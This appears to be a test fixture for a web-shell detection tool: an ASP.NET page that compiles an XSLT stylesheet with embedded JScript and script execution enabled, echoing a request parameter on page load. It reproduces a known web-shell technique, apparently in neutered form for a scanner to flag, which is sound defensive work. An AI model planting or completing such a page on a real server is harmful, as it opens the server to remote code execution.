<%@ Page Language="C#" %>
<%-- triage-expect: triage_aspx_xslt_script --%>
<%@ Import Namespace="System.Xml" %><%@ Import Namespace="System.Xml.Xsl" %>
<script runat="server">
    const string Sheet = @"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'
        xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:q='urn:q'>
      <msxsl:script language='JScript' implements-prefix='q'>
        function run() { return String(Request.Item['c']); }
      </msxsl:script>
      <xsl:template match='/'><xsl:value-of select='q:run()'/></xsl:template>
    </xsl:stylesheet>";
    void Page_Load(object s, EventArgs e) {
        var t = new XslCompiledTransform();
        t.Load(XmlReader.Create(new System.IO.StringReader(Sheet)), new XsltSettings(false, true), new XmlUrlResolver());
        t.Transform(XmlReader.Create(new System.IO.StringReader("<x/>")), null, Response.Output);
    }
</script>
